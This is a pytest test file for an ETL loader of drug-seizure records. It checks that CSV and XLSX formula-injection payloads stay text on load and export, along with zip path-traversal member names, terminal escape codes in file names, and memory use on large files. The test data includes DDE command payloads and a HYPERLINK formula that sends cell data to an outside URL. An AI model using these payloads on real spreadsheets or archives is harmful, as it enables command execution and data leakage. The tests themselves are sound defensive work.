"""What looks odd and is harmless simply loads: scripts from right to left, formulas that stay text, names with paths.

Through `python -m etl load`; and what was loaded goes out again in every export without becoming a formula.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator, Sequence
from contextlib import redirect_stdout
from pathlib import Path

import openpyxl
import pytest

from analytics.door import ask_query
from dashboard.server import build_server
from etl.__main__ import main
from store import Store, open_store
from tests.etl.readers.books import table_xml, xlsx
from tests.faults.conftest import FULL
from tests.faults.files import MIB
from tests.faults.harms import HEADER, ROW, TEXT, load_apart
from tests.fixtures.command import answer, load, run
from tests.fixtures.databases import database_file as database_file
from tests.fixtures.databases import seeded_file as seeded_file
from tests.fixtures.real import ask

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"open")',
    "@A1*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
RIGHT_TO_LEFT = ("ירושלים, שער יפו", "تهران، میدان آزادی", "\u202eabc\u202c Osh", "مرز ۱۲۳")
FLAT_MIB = 512  # the limit of a load
LARGE_MIB = 2_000_000_000 // MIB if FULL else 90


@pytest.fixture
def store(database_file: Path) -> Iterator[Store]:
    opened = open_store(f"sqlite:///{database_file}")
    yield opened
    opened.close()


def written(path: Path, rows: Sequence[Sequence[str]], header: Sequence[str] = HEADER) -> Path:
    """A CSV, or an XLSX where its name says so, whose cells are these texts."""
    if path.suffix == ".xlsx":
        return xlsx(path, {"Seizures": table_xml([header, *rows])})
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([header, *rows])
    return path


@pytest.mark.parametrize("name", ["rows.csv", "rows.xlsx"])
def test_scripts_from_right_to_left_load_and_are_found(tmp_path: Path, database_file: Path, name: str) -> None:
    path = written(tmp_path / name, [(*ROW[:-1], place) for place in RIGHT_TO_LEFT])
    account = load(database_file, path)
    assert (account["rows_loaded"], account["mass_kg"]) == (4, 6.0)
    found = ask(database_file, "SELECT place FROM seizure ORDER BY id")
    assert [place for (place,) in found] == list(RIGHT_TO_LEFT)
    store = open_store(f"sqlite:///{database_file}")
    for words, rows in (("ירושלים", 1), ("میدان تهران", 1), ("Osh", 1), ("London", 0)):
        assert ask_query(store, "totals", f"q={words}")["seizures"] == rows, words
    store.close()


def every_csv(store: Store, folder: Path, database: Path) -> dict[str, str]:
    """Everything that leaves as CSV: the exports of the pages, the findings over HTTP and from the command line."""
    client = build_server(store, folder / "served").test_client()
    paths = ("/export/records.csv", "/export/drugs.csv", "/export/countries.csv", "/api/v1/batches/1/issues.csv")
    found = {}
    for path in paths:
        got = client.get(path)
        assert got.status_code == 200, path
        found[path] = got.get_data(as_text=True)
    answer(database, "issues", "1", "--csv", folder / "issues.csv")
    return found | {"issues --csv": (folder / "issues.csv").read_text(encoding="utf-8")}


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formulas_load_as_text_and_leave_as_text(
    tmp_path: Path, store: Store, database_file: Path, kind: str
) -> None:
    header = (*HEADER, "=1+1")
    rows = [("2014-05-31", "KZ", formula, "1", formula, formula, formula) for formula in FORMULAS]
    rows += [(formula, "KZ", "heroin", formula, "kg", formula, formula) for formula in FORMULAS]
    name = f"=cmd|'{kind}'!A0.{kind}"
    account = load(database_file, written(tmp_path / name, rows, header), "--map", "note==1+1")
    assert (account["file"], account["rows_loaded"], account["rows_quarantined"]) == (name, 6, 6)
    kept = ask(database_file, "SELECT drug_as_written, unit_as_written, place, note FROM seizure_line AS l "
               "JOIN seizure AS s ON s.id = l.seizure_id ORDER BY l.id")  # fmt: skip
    assert [tuple(cell.strip() for cell in row) for row in kept] == [(text.strip(),) * 4 for text in FORMULAS]

    seen = 0
    for where, text in every_csv(store, tmp_path, database_file).items():
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")):
            run_as_formula = [cell for cell in row if cell.startswith(STARTS) and not is_number(cell)]
            assert run_as_formula == [], where
            seen += sum("calc" in cell for cell in row)
    assert seen > 20, "the formulas are in these files"
    workbook_is_text(tmp_path / "errors.xlsx", database_file)


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def workbook_is_text(path: Path, database: Path) -> None:
    answer(database, "issues", "1", "--xlsx", path)
    cells = [cell for sheet in openpyxl.load_workbook(path) for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    assert {"=1+1", *FORMULAS} <= {cell.value for cell in cells} | {f"\t{str(cell.value).strip()}" for cell in cells}
    with zipfile.ZipFile(path) as parts:
        assert not any(b"<f>" in parts.read(part) for part in parts.namelist() if "worksheets" in part)


def test_paths_in_names_lead_nowhere(tmp_path: Path, database_file: Path) -> None:
    folder = tmp_path / "deep" / "down"
    folder.mkdir(parents=True)
    members = ("../../escaped.csv", "/etc/escaped.csv", "a\\..\\..\\escaped.csv", "C:escaped.csv")
    for number, member in enumerate(members):
        path = folder / f"{number}.zip"
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr(member, TEXT.replace("Osh", f"Osh {number}"))
        ended = load_apart(tmp_path, database_file, path)
        assert (ended.code, ended.err) == (0, ""), member
    assert ask(database_file, "SELECT count(*), sum(status = 'active') FROM batch") == [(4, 4)]
    assert not [path for path in tmp_path.rglob("*escaped*")] and not Path("/etc/escaped.csv").exists()
    assert not Path("escaped.csv").exists()


def test_a_name_with_commands_for_a_terminal_is_shown_without_them(tmp_path: Path, database_file: Path) -> None:
    name = "a\x1b[2J\u202efdc.csv"  # clears the screen, and turns what follows round
    (tmp_path / name).write_text("no table", encoding="utf-8")
    code, _out, err = run(database_file, "load", tmp_path / name)
    assert code == 2 and err.endswith(".\n") and err[:-1].isprintable() and "\ufffd[2J\ufffdfdc.csv" in err
    (tmp_path / name).write_text(TEXT, encoding="utf-8")
    for words in (("load", str(tmp_path / name)), ("load", str(tmp_path / name)), ("batches",), ("issues", "1")):
        out = io.StringIO()
        with redirect_stdout(out):
            assert main([*words, "--database", str(database_file)]) == 0
        assert all(line.isprintable() for line in out.getvalue().split("\n")), words
    assert [batch["file_name"] for batch in answer(database_file, "batches")] == [name]


def test_a_large_table_loads_in_the_memory_of_a_block(tmp_path: Path, database_file: Path) -> None:
    """90 MB of forty columns, of which six are read; SENTINEL_FAULTS_FULL=1: 2 GB."""
    more = [f"column {n}" for n in range(34)]
    path = tmp_path / "large.csv"
    tail = ",".join(f"{n} {'x' * 50}" for n in range(34))
    with path.open("w", encoding="utf-8") as file:
        file.write(f"{','.join([*HEADER, *more])}\n")
        rows = 0
        while file.tell() < LARGE_MIB * MIB:
            file.writelines(
                f"2014-05-{n % 28 + 1:02d},KZ,heroin,{(rows + n) % 977 + 0.5},kg,Place {n % 99},{tail}\n"
                for n in range(1000)
            )
            rows += 1000
    ended = load_apart(tmp_path, database_file, path)
    print(f"{path.stat().st_size / 1e6:.0f} MB, {rows} rows: {ended.peak_mib:.0f} MiB")
    assert (ended.code, ended.err) == (0, "")
    expected = sum(n % 977 + 0.5 for n in range(rows))
    assert ask(database_file, "SELECT count(*), sum(mass_kg) FROM seizure_line") == [(rows, pytest.approx(expected))]
    assert ended.peak_mib < FLAT_MIB
